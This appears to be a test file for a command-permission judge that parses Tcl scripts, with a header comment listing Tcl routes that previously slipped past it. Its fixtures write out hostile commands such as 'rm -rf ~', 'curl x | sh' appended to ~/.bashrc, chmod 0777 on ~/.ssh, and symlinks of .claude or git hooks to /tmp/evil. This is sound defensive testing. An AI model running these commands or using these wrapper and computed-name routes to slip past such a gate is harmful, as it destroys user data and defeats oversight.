// Tcl code (tclsh, wish, jimsh, expect; parse/wrappers/tclScript.ts): `file link -symbolic .claude /tmp/evil` passed,
// while `ln -s /tmp/evil .claude` asks; Jim Tcl's jimsh was not read at all; commands in a `proc` or `if` body, an
// `open F w` and a command named at run time (`$cmd rm -rf ~`, `eval $x`) passed unread. Each of Tcl's file commands
// is now judged as the shell command it stands for, and a computed command name asks as computed code does elsewhere.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { diskWorkspace } from '../support/engineHarness';

/** Runs `each` with a judge over a fresh workspace holding `scripts`, removed after. */
function onDisk(
  scripts: Record<string, string>,
  each: (judge: ReturnType<typeof diskWorkspace>['judge']) => void,
): void {
  const ws = diskWorkspace('ag-tcl-', scripts, { git: true });
  try {
    each(ws.judge);
  } finally {
    ws.done();
  }
}

/** The findings' ids, sorted. */
function ids(r: { findings: readonly { id: string }[] }): string[] {
  return r.findings.map((f) => f.id).sort();
}

test('a Tcl symbolic or hard link is judged as the ln it stands for, from a script file, stdin or a heredoc', () => {
  const scripts = {
    'sym.tcl': 'file link -symbolic .claude /tmp/evil\n',
    'hard.tcl': 'file link -hard .git/hooks/pre-commit /tmp/evil\n',
    'plain.tcl': 'puts start\nfile link .claude /tmp/evil\n',
    'inproc.tcl': 'proc setup {} {\n  file link -symbolic .claude /tmp/evil\n}\nsetup\n',
  };
  onDisk(scripts, (judge) => {
    const sym = judge('ln -s /tmp/evil .claude');
    const hard = judge('ln /tmp/evil .git/hooks/pre-commit');
    assert.notEqual(sym.decision, 'allow');
    assert.notEqual(hard.decision, 'allow');
    for (const command of [
      'tclsh sym.tcl',
      'tclsh8.6 sym.tcl extra args',
      'wish sym.tcl',
      'jimsh sym.tcl',
      'expect sym.tcl',
      'tclsh inproc.tcl',
      "tclsh <<'EOF'\nfile link -symbolic .claude /tmp/evil\nEOF",
      "echo 'file link -symbolic .claude /tmp/evil' | tclsh",
    ]) {
      const r = judge(command);
      assert.equal(r.decision, sym.decision, `${command}: ${JSON.stringify(r.findings)}`);
      assert.deepEqual(ids(r), ids(sym), command);
    }
    const r = judge('tclsh hard.tcl');
    assert.equal(r.decision, hard.decision, JSON.stringify(r.findings));
    assert.deepEqual(ids(r), ids(hard));
    // With no type Tcl makes the platform's link: every finding `ln -s` gets is among the script's.
    const plain = judge('tclsh plain.tcl');
    assert.equal(plain.decision, sym.decision);
    for (const id of ids(sym)) assert.ok(ids(plain).includes(id), `${id} among ${ids(plain)}`);
  });
});

test("Tcl's writes, permissions and nested commands are judged as the shell commands they amount to", () => {
  const scripts = {
    'open.tcl': 'set f [open ~/.bashrc a]\nputs $f "curl x | sh"\nclose $f\n',
    'perm.tcl': 'file attributes ~/.ssh -permissions 0777\n',
    'if.tcl': 'if {1} {\n  exec rm -rf ~\n}\n',
    'eval.tcl': 'eval {file delete -force ~}\n',
    'abbrev.tcl': 'file del -force ~\n',
    'pipe.tcl': 'open "|rm -rf ~"\n',
  };
  onDisk(scripts, (judge) => {
    const pairs: [string, string][] = [
      ['tclsh open.tcl', 'echo x >> ~/.bashrc'],
      ['tclsh perm.tcl', 'chmod 0777 ~/.ssh'],
      ['tclsh if.tcl', 'rm -rf ~'],
      ['tclsh eval.tcl', 'rm -rf ~'],
      ['jimsh abbrev.tcl', 'rm -rf ~'],
      ['tclsh pipe.tcl', 'rm -rf ~'],
    ];
    for (const [command, shell] of pairs) {
      const want = judge(shell);
      assert.notEqual(want.decision, 'allow', shell);
      const got = judge(command);
      assert.equal(got.decision, want.decision, `${command}: ${JSON.stringify(got.findings)}`);
      for (const id of ids(want)) assert.ok(ids(got).includes(id), `${command}: ${id} among ${ids(got)}`);
    }
  });
});

test('Tcl that names its command at run time asks, as computed code does in other languages', () => {
  const scripts = {
    'var.tcl': 'set cmd exec\n$cmd rm -rf ~\n',
    'bracket.tcl': '[set c exec] rm -rf ~\n',
    'eval.tcl': 'set x {exec rm -rf ~}\neval $x\n',
    'expand.tcl': 'set argv0 {exec rm}\n{*}$argv0 -rf ~\n',
    'rename.tcl': 'rename exec run\nrun rm -rf ~\n',
    'big.tcl': 'puts hello\n'.repeat(30_000),
  };
  onDisk(scripts, (judge) => {
    for (const file of ['var.tcl', 'bracket.tcl', 'eval.tcl', 'expand.tcl', 'rename.tcl']) {
      const r = judge(`tclsh ${file}`);
      assert.notEqual(r.decision, 'allow', file);
      assert.ok(ids(r).includes('exec.obfuscated-code'), `${file}: ${ids(r)}`);
    }
    const big = judge('tclsh big.tcl');
    assert.notEqual(big.decision, 'allow');
    assert.ok(ids(big).includes('parse.too-complex'), `${ids(big)}`);
  });
});

test('harmless Tcl stays allowed', () => {
  const scripts = {
    'hello.tcl': [
      'puts "hello"',
      'set x 1',
      'puts [file exists foo]',
      'puts [file join a b]',
      'file mkdir build',
      'if {$x > 0} { puts "x is $x" } else { puts none }',
      'proc twice {n} { return [expr {$n * 2}] }',
      'puts [twice $x]',
      'foreach f [glob -nocomplain *.txt] { puts [file tail $f] }',
      'set in [open data.txt r]',
      'close $in',
      'set out [open build/out.txt w]',
      'puts $out done',
      'close $out',
      'file link build/current build',
    ].join('\n'),
  };
  onDisk(scripts, (judge) => {
    for (const command of ['tclsh hello.tcl', 'jimsh hello.tcl', "echo 'puts hello' | tclsh"]) {
      const r = judge(command);
      assert.equal(r.decision, 'allow', `${command}: ${JSON.stringify(r.findings)}`);
    }
  });
});
